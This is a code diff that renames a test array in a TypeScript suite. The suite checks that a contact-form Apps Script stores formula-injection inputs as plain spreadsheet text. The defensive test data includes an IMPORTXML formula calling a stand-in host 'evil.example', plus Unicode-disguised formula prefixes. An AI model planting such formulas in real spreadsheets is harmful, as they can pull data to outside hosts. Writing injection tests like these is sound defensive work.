@@ -13,10 +13,20 @@ const post = (payload: unknown, id?: string) => script.post(payload, id ? { subm
 describe('§7.1 docs/apps-script.gs', () => {
   const formulas = ['=1+1', '=IMPORTXML("https://evil.example","//a")', '+919876543210', '-1', '@SUM(A1)'];
   const hiddenFormulas = ['\t=1', '\r=1', '\n=1', '\uff1d1', '\uff0b1', '\u202e=1', '\ufeff=1', '\u0000=1', ' =1'];
-  const guessedValues = ['015112345678', '1/2', '1e5', '2026-03-02', '10:30', 'TRUE', '12345678901234567890', '5%', ''];
+  const autoConvertedValues = [
+    '015112345678',
+    '1/2',
+    '1e5',
+    '2026-03-02',
+    '10:30',
+    'TRUE',
+    '12345678901234567890',
+    '5%',
+    '',
+  ];
   const quotedValues = ["'twas", "'=1", "''=1", "'"];
 
-  test.each([...formulas, ...hiddenFormulas, ...guessedValues, ...quotedValues])(
+  test.each([...formulas, ...hiddenFormulas, ...autoConvertedValues, ...quotedValues])(
     'the script stores %j from a browser as literal text',
     (message) => {
       expect(post(createPayload('contact', { message, name: message, phone: message }))).toEqual({ ok: true });
@@ -26,7 +36,7 @@ describe('§7.1 docs/apps-script.gs', () => {
     },
   );
 
-  test.each([...formulas, '\t=1', '\uff1d1', ...guessedValues, ...quotedValues])(
+  test.each([...formulas, '\t=1', '\uff1d1', ...autoConvertedValues, ...quotedValues])(
     'the script stores %j from the relay as literal text',
     (message) => {
       expect(
@@ -47,7 +57,7 @@ describe('§7.1 docs/apps-script.gs', () => {
 
   test('the fake spreadsheet converts each non-empty test value that the script does not protect', () => {
     const tab = script.findTab('Contact');
-    const convertedValues = [...formulas, ...hiddenFormulas, ...guessedValues.filter(Boolean), ...quotedValues];
+    const convertedValues = [...formulas, ...hiddenFormulas, ...autoConvertedValues.filter(Boolean), ...quotedValues];
     convertedValues.forEach((value) => tab?.appendRow([value]));
     const textValues = convertedValues.filter(
       (value, index) => JSON.stringify(tab?.rows[index]) === JSON.stringify([{ text: value }]),
@@ -55,7 +65,7 @@ describe('§7.1 docs/apps-script.gs', () => {
     expect([tab?.rows.length, textValues]).toEqual([convertedValues.length, []]);
   });
 
-  test.each([...formulas, ...guessedValues, ...quotedValues])(
+  test.each([...formulas, ...autoConvertedValues, ...quotedValues])(
     'the script stores %j as literal text in a column with the format "Plain text"',
     (message) => {
       const tab = script.findTab('Contact');
